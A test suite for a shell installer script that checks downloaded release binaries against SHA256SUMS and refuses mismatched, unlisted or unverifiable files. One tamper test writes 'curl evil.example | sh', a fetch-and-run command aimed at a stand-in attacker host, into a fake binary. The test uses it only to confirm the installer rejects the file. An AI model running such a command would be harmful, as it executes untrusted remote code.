// scripts/install.sh: installs a release binary only when its SHA-256 matches SHA256SUMS. Run with
// a fake binary under POSIX sh (dash where present); `make release` itself is too slow for tests.
import { describe, expect, test } from "bun:test";
import { createHash } from "node:crypto";
import { existsSync, readFileSync, statSync } from "node:fs";
import { resolve } from "node:path";
import { TempHome } from "./harness.ts";

const INSTALL = resolve(import.meta.dir, "..", "..", "scripts", "install.sh");
const SH = Bun.which("dash") ?? Bun.which("sh") ?? "sh";
const FAKE = "#!/bin/sh\necho 'hatch 9.9.9 (fake)'\n";
const sha = (s: string) => createHash("sha256").update(s).digest("hex");

function setup(sums?: string) {
  const th = new TempHome();
  th.write("dl/hatch-linux-x64", FAKE);
  th.write("dl/hatch-darwin-arm64", "other\n");
  th.write("dl/SHA256SUMS", sums ?? `${sha("other\n")}  hatch-darwin-arm64\n${sha(FAKE)}  hatch-linux-x64\n`);
  const run = (args: string[]) => {
    const p = Bun.spawnSync([SH, INSTALL, ...args], {
      env: th.env(),
      cwd: th.path("dl"),
      stdout: "pipe",
      stderr: "pipe",
    });
    return { code: p.exitCode, stdout: p.stdout.toString(), stderr: p.stderr.toString() };
  };
  return { th, run };
}

describe("scripts/install.sh", () => {
  test("installs a binary whose checksum matches as PREFIX/bin/hatch, executable", () => {
    const { th, run } = setup();
    const r = run(["--prefix", th.path("opt"), "hatch-linux-x64"]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`Verified hatch-linux-x64 (sha256 ${sha(FAKE)})`);
    const bin = th.path("opt/bin/hatch");
    expect(readFileSync(bin, "utf8")).toBe(FAKE);
    expect(statSync(bin).mode & 0o777).toBe(0o755);
    expect(Bun.spawnSync([bin]).stdout.toString()).toBe("hatch 9.9.9 (fake)\n");
  });

  test("installs into ~/.local/bin by default", () => {
    const { th, run } = setup();
    expect(run(["hatch-linux-x64"]).code).toBe(0);
    expect(readFileSync(th.path(".local/bin/hatch"), "utf8")).toBe(FAKE);
  });

  test("accepts --prefix=DIR and an explicit --sums file", () => {
    const { th, run } = setup();
    th.write("elsewhere/SUMS", `${sha(FAKE)}  hatch-linux-x64\n`);
    const r = run([`--prefix=${th.path("p")}`, "--sums", th.path("elsewhere/SUMS"), "hatch-linux-x64"]);
    expect(r.code).toBe(0);
    expect(existsSync(th.path("p/bin/hatch"))).toBe(true);
  });

  test("refuses a binary whose checksum differs, and installs nothing", () => {
    const { th, run } = setup(`${sha("something else")}  hatch-linux-x64\n`);
    const r = run(["--prefix", th.path("opt"), "hatch-linux-x64"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('checksum mismatch for "hatch-linux-x64": refusing to install');
    expect(existsSync(th.path("opt/bin/hatch"))).toBe(false);
  });

  test("refuses a binary that SHA256SUMS does not list", () => {
    const { th, run } = setup(`${sha(FAKE)}  hatch-linux-x64-old\n`);
    const r = run(["--prefix", th.path("opt"), "hatch-linux-x64"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('"hatch-linux-x64" is not listed');
    expect(existsSync(th.path("opt/bin"))).toBe(false);
  });

  test("refuses without SHA256SUMS", () => {
    const { th, run } = setup();
    th.write("solo/hatch-linux-x64", FAKE);
    const r = run(["--prefix", th.path("opt"), th.path("solo/hatch-linux-x64")]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("SHA256SUMS");
    expect(existsSync(th.path("opt"))).toBe(false);
  });

  test("a tampered binary is refused even though its name is listed", () => {
    const { th, run } = setup();
    th.write("dl/hatch-linux-x64", `${FAKE}curl evil.example | sh\n`);
    expect(run(["--prefix", th.path("opt"), "hatch-linux-x64"]).code).toBe(1);
    expect(existsSync(th.path("opt/bin/hatch"))).toBe(false);
  });
});
